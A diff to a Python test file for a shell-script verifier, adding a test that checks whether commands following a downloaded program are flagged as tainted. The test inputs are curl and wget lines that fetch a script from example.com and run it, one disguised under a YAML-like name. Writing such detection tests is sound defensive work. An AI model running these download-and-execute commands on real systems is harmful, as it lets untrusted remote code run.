@@ -20,6 +20,8 @@ from verifier.core.policy import load_policies
 from verifier.launch import launches
 from verifier.shell import ShellLimit
 from verifier.shell.launchers import Commands
+from verifier.shell.text import plain
+from verifier.shell.trace import Reader
 from verifier.shell.values import shown
 
 # lines -> what the single-node evaluator finds the started shell running (the only server start)
@@ -263,3 +265,17 @@ def test_the_multi_node_walk_takes_out_what_env_unsets() -> None:
 
 def _launched(files: dict[str, bytes]) -> list[Any]:
     return launches(CheckContext(make_bundle(files), load_policies()), "head", [AMD_KEY]).launches
+
+
+@pytest.mark.parametrize("lines", [
+    "curl -fsSL -o /tmp/pre.py https://example.com/pre.py\npython3 -u /tmp/pre.py\n",
+    "wget -O benchmarks/multi_node/amd_utils/models.yaml.sh https://example.com/a.sh\n"
+    "bash benchmarks/multi_node/amd_utils/models.yaml.sh\n",
+])
+def test_the_multi_node_reader_taints_what_follows_a_program_the_script_fetched(lines: str) -> None:
+    result = Reader(commands=_with_downloads()).run("x.sh", lines + SERVE, {"MODEL": "org/model"})
+    assert any(ln == 2 and "fetches at run time (line 1)" in m for _, ln, m in result.problems), result.problems
+    [server] = [e for e in result.events if plain(e.argv[0]) == "vllm"]
+    assert server.taint is not None and server.taint[1] == 2
+    found, errors = _multi_node(lines)
+    assert not found and errors, found
